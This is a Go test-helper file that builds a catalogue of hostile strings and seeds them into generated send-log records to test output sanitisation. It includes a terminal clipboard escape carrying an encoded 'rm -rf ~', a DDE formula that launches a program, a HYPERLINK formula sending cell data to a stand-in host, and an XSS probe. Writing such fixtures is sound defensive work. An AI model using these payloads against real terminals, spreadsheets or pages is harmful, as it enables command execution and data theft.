package sendcloudtest

import (
	"slices"
	"strings"
)

// HostileText is text that tries to harm a terminal, a table or a spreadsheet.
type HostileText struct {
	Name string
	Text string // may be no valid UTF-8; a lone surrogate stands in its three-byte form
}

// HostileTexts lists what [FaultHostile] puts into rows, for tests that want
// each of them.
func HostileTexts() []HostileText { return slices.Clone(hostileTexts) }

var hostileTexts = []HostileText{
	{"csi", "\x1b[2J\x1b[H\x1b[31mred\x1b[0m\x1b[?1049l\x1b[999B"},
	{"osc52", "\x1b]52;c;cm0gLXJmIH4=\x07copied"},
	{"title", "\x1b]0;owned\x07\x1b]2;owned\x1b\\\x1bkowned\x1b\\"},
	{"dcs", "\x1bP$q\"p\x1b\\\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bc"},
	{"hyperlink", "\x1b]8;;http://example.com/\x1b\\click\x1b]8;;\x1b\\"},
	{"c1-bytes", "a\x9b31mb\x9d0;t\x9cc\x84\x85\x90"},
	{"c1-unicode", "a\u009b31mb\u009d0;t\u009cc\u0084\u0085\u0090"},
	{"cr", "550 refused\rdelivered  "},
	{"backspace", "refused\b\b\b\b\b\b\bok     "},
	{"nul-del", "a\x00b\x7fc\x07d\x05e"},
	{"tabs-lines", "a\tb\nc\vd\fe\r\nf\u2028g\u2029h"},
	{"bidi", "\u202egro.elpmaxe@resu\u202c \u2066left\u2069 \u200frtl\u200e \u061c"},
	{"zero-width", "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg\u180eh\u034fi\u115fj\u3164k"},
	{"tags", "tag\U000e0001\U000e0068\U000e0069\U000e007f end"},
	{"surrogate", "lone \xed\xa0\x80 high \xed\xbf\xbf low"},
	{"invalid-utf8", "bad \xff\xfe \xc3( \xe2\x82 \xf0\x9f\x98 \xc0\xaf \xf8\x88\x80\x80\x80"},
	{"combining", "Z" + strings.Repeat("\u0300\u0316\u0489\u20dd", 60) + "algo"},
	{"variation", "✈\ufe0e ✈\ufe0f ☃\ufe0f 1\ufe0f\u20e3 葛\U000e0100"},
	{"emoji-family", "👨‍👩‍👧‍👦 👩🏽‍🚀 🇨🇳🇨 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🏳️‍🌈"},
	{"wide", "ｆｕｌｌ＠ｗｉｄｔｈ．ｃｏｍ ㍿ ﷽ ｶﾞ 가 ก็็็็"},
	{"noncharacters", "\ufffe\uffff\U0010ffff\ue000\ufff9a\ufffab\ufffb"},
	{"formula", `=HYPERLINK("http://example.com/?"&A1,"click")`},
	{"formula-plus", "+1+cmd|' /C calc'!A0"},
	{"formula-minus", "-2+3"},
	{"formula-at", "@SUM(1+1)"},
	{"formula-wide", "＝1+1"},
	{"formula-wide-plus", "＋1"},
	{"formula-wide-minus", "－1"},
	{"formula-wide-at", "＠SUM(1)"},
	{"formula-tab", "\t=1+1"},
	{"formula-cr", "\r=1+1"},
	{"quotes", `"a","b";'c' ` + "`d` $(e) <script>alert(1)</script> &amp; %s%n \\u0041 \\"},
	{"long-line", "550 " + strings.Repeat("无x", 200_000/4)},
	{"many-lines", strings.Repeat("550-5.7.1 no\n", 4999) + "550 5.7.1 no"},
}

// poison puts hostile text into one field of some rows.
func (w *writer) poison(r *Record) {
	h := hash(w.o.Seed, uint64(r.Index), forHostile)
	if w.hostile == 0 || !share(h, w.hostile) {
		return
	}
	text := hostileTexts[r.Index%len(hostileTexts)].Text
	field := &r.SendLog
	if len(text) < 1000 {
		field = pick(uint64(r.Index/len(hostileTexts)), []*string{&r.SendLog, &r.Recipient, &r.APIUser})
	}
	*field = text
	if field == &r.Recipient {
		*field += "@example.com"
	}
}
